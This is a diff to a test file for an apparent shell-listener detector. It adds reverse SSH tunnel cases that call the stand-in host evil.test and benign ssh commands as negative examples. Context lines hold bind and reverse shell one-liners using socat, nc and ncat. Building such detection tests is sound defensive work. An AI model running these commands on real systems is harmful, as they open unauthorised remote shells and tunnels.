@@ -25,6 +25,8 @@ describe('shellListeners', () => {
     ['socat TCP-LISTEN:1337,fork EXEC:/bin/bash', 'listener'],
     ['socat tcp4-l:1337,fork exec:sh,pty', 'listener'],
     ['socat OPENSSL-LISTEN:443,cert=x SYSTEM:sh', 'listener'],
+    ['ssh -i /key -o StrictHostKeyChecking=no -fNR 2222:localhost:22 a@evil.test', 'reverse'],
+    ['autossh -M 0 -N evil.test -R 8080:localhost:80', 'reverse'],
     ['nc 10.0.0.1 4444 -e /bin/sh', 'reverse'],
     ['ncat --sh-exec bash 10.0.0.1 4444', 'reverse'],
     ['socat TCP:10.0.0.1:4444 EXEC:bash,pty', 'reverse'],
@@ -45,6 +47,9 @@ describe('shellListeners', () => {
   it.each([
     'sshd -t',
     'ssh host',
+    'ssh -N -L 5432:db:5432 bastion',
+    'ssh deploy@host chmod -R 755 /srv',
+    'ssh -p 22 -i /keys/R host rm -R /tmp/x',
     'ssh-keygen -A',
     'sshd_exporter',
     'echo sshd',
